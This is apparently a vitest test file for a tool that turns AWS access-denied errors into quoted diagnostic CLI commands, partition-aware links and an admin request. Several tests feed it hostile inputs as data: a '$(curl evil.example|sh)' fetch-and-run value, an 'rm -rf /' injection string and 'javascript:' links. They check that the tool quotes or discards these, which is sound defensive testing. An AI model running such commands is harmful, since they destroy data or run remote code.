// Commands filled in and quoted for the shell, partition-aware; links composed by us, https only; the admin
// request ready to send.
import { beforeAll, describe, expect, it } from 'vitest';
import { explainWith } from '../../../lib/explain/core';
import { sh } from '../../../lib/steps/shell';
import type { IamIndex } from '../../../lib/iam/index';
import { loadIndex } from '../../../lib/iam/load';
import type { Explanation, Finding, Lang } from '../../../lib/model';
import { finding, sentence, SESSION, USER } from './support';

let iam: IamIndex;
beforeAll(async () => {
  iam = await loadIndex(['s3', 'kms', 'iam', 'sts', 'lambda', 'dynamodb', 'sqs', 'ec2', 'ssm']);
});
const ex = (f: Finding, lang: Lang = 'en'): Explanation => explainWith(f, iam, lang);
const commands = (e: Explanation): string[] => e.commands.map((c) => c.command);

describe('commands', () => {
  it('fills in who, what and where — one list: the commands are the steps\' commands', () => {
    const e = ex(sentence(SESSION, 's3:GetObject', 'arn:aws:s3:::my-bucket/a.txt', { policyType: 'unknown', denyKind: 'unknown' }, { operation: 'GetObject' }));
    expect(commands(e)).toEqual(e.steps.filter((s) => s.command).map((s) => s.command));
    expect(e.commands.map((c) => c.purpose)).toEqual(e.steps.filter((s) => s.command).map((s) => s.title));
    const all = commands(e).join('\n');
    expect(all).toContain('aws sts get-caller-identity --query Arn --output text');
    expect(all).toContain('--action-names s3:GetObject --resource-arns arn:aws:s3:::my-bucket/a.txt');
    expect(all).toContain('aws iam list-attached-role-policies --role-name Dev\naws iam list-role-policies --role-name Dev');
    expect(all).toContain('aws s3api get-bucket-policy --bucket my-bucket --query Policy --output text | jq .');
    expect(all).toContain("aws s3api head-object --bucket my-bucket --key a.txt --query '[ServerSideEncryption,SSEKMSKeyId]'");
    expect(e.steps.find((s) => s.command?.startsWith('aws iam simulate'))?.meaning).toContain('trust policies');
    // The CloudTrail lookup once, with one set of options.
    expect(commands(e).filter((c) => c.startsWith('aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=GetObject'))).toHaveLength(1);
    expect(new Set(commands(e)).size).toBe(commands(e).length);
  });

  it('simulates with the role ARN, never the session', () => {
    const e = ex(sentence(SESSION, 'dynamodb:GetItem', 'arn:aws:dynamodb:eu-west-1:111122223333:table/t', { policyType: 'identity', denyKind: 'implicit' }));
    const sim = commands(e).find((c) => c.includes('simulate-principal-policy')) ?? '';
    // The session ARN hides the role's path: the command reads the role's real ARN.
    expect(sim).toContain('--policy-source-arn "$(aws iam get-role --role-name Dev --query Role.Arn --output text)"');
    expect(sim).not.toContain('assumed-role');
    const role = ex(sentence('arn:aws:iam::111122223333:role/team/Dev', 'dynamodb:GetItem', 'arn:aws:dynamodb:eu-west-1:111122223333:table/t', { policyType: 'identity', denyKind: 'implicit' }));
    expect(commands(role).find((c) => c.includes('simulate-principal-policy'))).toContain('--policy-source-arn arn:aws:iam::111122223333:role/team/Dev');
  });

  it('decodes the encoded message, and only a well-formed blob goes into the command', () => {
    const blob = 'AbC-_123'.repeat(10);
    const e = ex(finding({ errorCode: 'UnauthorizedOperation', encoded: true, operation: 'RunInstances', message: `An error occurred (UnauthorizedOperation) when calling the RunInstances operation: You are not authorized to perform this operation. Encoded authorization failure message: ${blob}` }));
    expect(commands(e)).toContain(`aws sts decode-authorization-message --encoded-message ${blob} --query DecodedMessage --output text | jq .`);
    const hostile = ex(finding({ encoded: true, message: 'Encoded authorization failure message: $(curl evil.example|sh)' }));
    expect(commands(hostile).find((c) => c.includes('decode-authorization-message'))).toContain('--encoded-message ENCODED_MESSAGE');
  });

  it('shows the SCP and the denying policy in the management account', () => {
    const e = ex(sentence(USER, 'ec2:DescribeRegions', null, { policyType: 'scp', denyKind: 'explicit', policyArn: 'arn:aws:organizations::999999999999:policy/o-abc123/service_control_policy/p-abcd1234' }));
    expect(commands(e)).toEqual(
      expect.arrayContaining([
        'aws organizations describe-policy --policy-id p-abcd1234 --query Policy.Content --output text | jq .',
        'aws organizations list-policies-for-target --target-id 111122223333 --filter SERVICE_CONTROL_POLICY',
      ]),
    );
  });

  it('names the regional endpoint of global services outside the commercial partition', () => {
    const cn = ex(sentence('arn:aws-cn:sts::111122223333:assumed-role/Dev/a', 'ssm:GetParameter', 'arn:aws-cn:ssm:cn-north-1:111122223333:parameter/x', { policyType: 'identity', denyKind: 'implicit' }));
    expect(commands(cn).find((c) => c.includes('simulate-principal-policy'))).toMatch(/get-role --role-name Dev --query Role\.Arn --output text --region cn-north-1\)" .* --region cn-north-1$/);
    expect(cn.fixes[0]?.attachTo).toBe('arn:aws-cn:iam::111122223333:role/Dev');
    const gov = ex(sentence('arn:aws-us-gov:iam::111122223333:user/bob', 'ssm:GetParameter', null, { policyType: 'identity', denyKind: 'implicit' }));
    expect(commands(gov).find((c) => c.includes('simulate-principal-policy'))).toMatch(/--region us-gov-west-1$/);
  });

  it('quotes anything from the message that the shell would interpret', () => {
    expect(sh("a'b; rm -rf / $(x)")).toBe(`'a'\\''b; rm -rf / $(x)'`);
    expect(sh('arn:aws:s3:::b/k')).toBe('arn:aws:s3:::b/k');
    const e = ex(sentence(SESSION, 's3:GetObject', "arn:aws:s3:::b/it's $(touch pwned);x", { policyType: 'identity', denyKind: 'implicit' }));
    for (const c of commands(e)) {
      const unquoted = c.replace(/'(?:[^']|'\\'')*'/g, '').replace(/"[^"]*"/g, '');
      expect(unquoted, c).not.toMatch(/\$\(|;|`/);
    }
  });
});

describe('links', () => {
  it('are composed per partition, https only', () => {
    const aws = ex(sentence(SESSION, 's3:GetObject', 'arn:aws:s3:::my-bucket/a.txt', { policyType: 'resource', denyKind: 'implicit' }));
    const urls = aws.links.map((l) => l.url);
    expect(urls).toEqual(
      expect.arrayContaining([
        'https://console.aws.amazon.com/iam/home#/roles/details/Dev?section=permissions',
        'https://s3.console.aws.amazon.com/s3/buckets/my-bucket?tab=permissions',
        'https://docs.aws.amazon.com/service-authorization/latest/reference/list_amazons3.html',
      ]),
    );
    const cn = ex(sentence('arn:aws-cn:iam::111122223333:user/bob', 'ssm:GetParameter', 'arn:aws-cn:ssm:cn-north-1:111122223333:parameter/x', { policyType: 'identity', denyKind: 'implicit' }));
    expect(cn.links.map((l) => l.url)).toContain('https://console.amazonaws.cn/iam/home#/users/details/bob?section=permissions');
    const gov = ex(sentence('arn:aws-us-gov:iam::111122223333:user/bob', 'ssm:GetParameter', null, { policyType: 'identity', denyKind: 'implicit' }));
    expect(gov.links.map((l) => l.url)).toContain('https://console.amazonaws-us-gov.com/iam/home#/users/details/bob?section=permissions');
    const iso = ex(sentence('arn:aws-iso:iam::111122223333:user/bob', 'ssm:GetParameter', null, { policyType: 'identity', denyKind: 'implicit' }));
    expect(iso.links.every((l) => l.url.startsWith('https://docs.aws.amazon.com/'))).toBe(true);
    for (const e of [aws, cn, gov, iso]) for (const l of e.links) expect(l.url).toMatch(/^https:\/\/[a-z0-9.-]+\.(amazon\.com|amazonaws\.cn|amazonaws-us-gov\.com)\//);
  });

  it('point Japanese readers to the Japanese documentation, and keep console links as they are', () => {
    const f = sentence(SESSION, 's3:GetObject', 'arn:aws:s3:::my-bucket/a.txt', { policyType: 'resource', denyKind: 'implicit' });
    const en = ex(f).links.map((l) => l.url);
    const ja = ex(f, 'ja').links.map((l) => l.url);
    expect(ja).toHaveLength(en.length);
    expect(ja).toContain('https://docs.aws.amazon.com/ja_jp/service-authorization/latest/reference/list_amazons3.html');
    en.forEach((url, i) => expect(ja[i]).toBe(url.startsWith('https://docs.aws.amazon.com/') ? url.replace('https://docs.aws.amazon.com/', 'https://docs.aws.amazon.com/ja_jp/') : url));
    expect(ja.filter((u) => u.startsWith('https://docs.aws.amazon.com/')).length).toBeGreaterThan(1);
  });

  it('links the SCP of the message, the trust relationships of the assumed role', () => {
    const scp = ex(sentence(USER, 'ec2:DescribeRegions', null, { policyType: 'scp', denyKind: 'explicit', policyArn: 'arn:aws:organizations::999999999999:policy/o-abc123/service_control_policy/p-abcd1234' }));
    expect(scp.links.map((l) => l.url)).toContain('https://console.aws.amazon.com/organizations/v2/home/policies/service-control-policy/p-abcd1234');
    const trust = ex(sentence(USER, 'sts:AssumeRole', 'arn:aws:iam::111122223333:role/deployer', { policyType: 'unknown', denyKind: 'unknown' }));
    expect(trust.links.map((l) => l.url)).toContain('https://console.aws.amazon.com/iam/home#/roles/details/deployer?section=trust_relationships');
  });

  it('never carries text from the page as a link', () => {
    const e = ex(finding({ principal: 'javascript:alert(1)', action: 's3:GetObject', resource: 'https://evil.example/x', message: '<a href="https://evil.example">Access Denied</a>' }));
    for (const l of e.links) {
      expect(l.url.startsWith('https://')).toBe(true);
      expect(l.url).not.toContain('evil.example');
      expect(l.url).not.toContain('javascript');
    }
  });
});

describe('admin request', () => {
  it('states what was denied, the proposed change and how to verify it', () => {
    const e = ex(sentence(SESSION, 's3:ListBucket', 'arn:aws:s3:::my-bucket', { policyType: 'identity', denyKind: 'implicit' }));
    expect(e.adminRequest).toContain('Subject: Access request — s3:ListBucket for role Dev');
    expect(e.adminRequest).toContain(`${SESSION} was denied s3:ListBucket on arn:aws:s3:::my-bucket.`);
    expect(e.adminRequest).toContain('Apply to: arn:aws:iam::111122223333:role/Dev');
    expect(e.adminRequest).toContain('"Action": "s3:ListBucket"');
    expect(e.adminRequest).toContain('To verify: aws iam simulate-principal-policy');
    expect(e.adminRequest).toContain('> User: arn:aws:sts::111122223333:assumed-role/Dev/alice is not authorized');
    const ja = ex(sentence(SESSION, 's3:ListBucket', 'arn:aws:s3:::my-bucket', { policyType: 'identity', denyKind: 'implicit' }), 'ja');
    expect(ja.adminRequest).toContain('件名: アクセス許可の依頼');
    expect(ja.adminRequest).toContain('適用先: arn:aws:iam::111122223333:role/Dev');
    expect(ja.adminRequest).toContain('よろしくお願いいたします。');
  });
});
